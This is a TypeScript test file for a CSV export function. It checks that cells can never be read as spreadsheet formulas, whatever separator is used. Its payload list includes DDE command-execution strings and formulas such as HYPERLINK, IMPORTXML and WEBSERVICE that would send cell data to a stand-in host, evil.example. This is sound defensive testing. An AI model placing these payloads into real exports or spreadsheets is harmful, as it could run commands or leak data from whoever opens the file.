import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { asText, type Cell, csvLine } from './csv.ts'

/** Reads CSV as a spreadsheet does: quotes count only at the start of a cell. */
function read(text: string, separator: string): string[][] {
  const rows: string[][] = [[]]
  let cell = ''
  let isQuoted = false
  let isFresh = true
  for (let at = 0; at < text.length; at += 1) {
    const one = text.charAt(at)
    if (isQuoted) {
      if (one !== '"') cell += one
      else if (text.charAt(at + 1) === '"') {
        cell += '"'
        at += 1
      } else isQuoted = false
      continue
    }
    if (one === '"' && isFresh) {
      isQuoted = true
      isFresh = false
      continue
    }
    const isRowEnd = one === '\n' || one === '\r'
    if (one !== separator && !isRowEnd) {
      cell += one
      isFresh = false
      continue
    }
    rows.at(-1)?.push(cell)
    cell = ''
    isFresh = true
    if (one === '\r' && text.charAt(at + 1) === '\n') at += 1
    if (isRowEnd) rows.push([])
  }
  return rows.slice(0, -1)
}

const isFormula = (cell: string) =>
  /^[\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell) || /^[\t\r]/.test(cell)

const starts = ['=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']
const payloads = [
  ...starts.flatMap((start) => [
    `${start}1+1`,
    ` ${start}1+1`,
    `\t${start}1+1`,
    `\r${start}1+1`,
    `a;${start}1+1`,
    `a\n${start}1+1`,
  ]),
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?x="&A1,"Click")',
  '=IMPORTXML("http://evil.example","//a")',
  '=WEBSERVICE("http://evil.example")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+49 30 1234',
  '-2+3',
  '\u00A0=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u0000=1+1',
  'a;"=1+1"',
  'a;"";=1+1',
  '"=1+1"',
  '","=1+1","',
  'a|=1+1',
  'a;\n;=1+1',
  '\t',
  '\rname',
]

describe('a cell', () => {
  it('[P36] is tried with 60 payloads and more', () => {
    expect(new Set(payloads).size).toBeGreaterThanOrEqual(60)
  })

  it.each(payloads)(
    '[P36] [D-103] %j is no formula, whatever separates the cells where it is opened',
    (payload) => {
      const line = csvLine([payload, 'id', `${payload} (Individual)`, 66.67])
      for (const separator of [',', ';', '\t', '|'])
        for (const row of read(line, separator)) expect(row.filter(isFormula)).toEqual([])
      expect(read(line, ',')).toEqual([
        [asText(payload), 'id', asText(`${payload} (Individual)`), '66.67'],
      ])
    },
  )

  it.each([
    'Jean-Luc O’Neil',
    'Müller, "Hannes"',
    'two\nlines',
    'a;b',
    '山田 太郎',
    'Лев Толстой',
    'R+D',
    'ana@example.org',
    '',
    'x = y',
    '1-2',
  ])('[EXP-05] %j stays as it is', (text) => {
    expect(asText(text)).toBe(text)
    expect(read(csvLine([text, text]), ',')).toEqual([[text, text]])
  })

  it('[EXP-05] is a number without quotes, or empty', () => {
    expect(csvLine(['Ana', 66.67, 0, null, 100])).toBe('"Ana",66.67,0,,100\r\n')
  })

  it('[EXP-05] [P36] any row is read back as it was, no cell of it a formula', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.constantFrom(...payloads),
      fc.nat(1000),
      fc.constant(null),
    )
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1 }), (cells: Cell[]) => {
        const [row = []] = read(csvLine(cells), ',')
        expect(row).toEqual(
          cells.map((one) => (typeof one === 'string' ? asText(one) : String(one ?? ''))),
        )
        expect(row.filter(isFormula)).toEqual([])
      }),
    )
  })
})
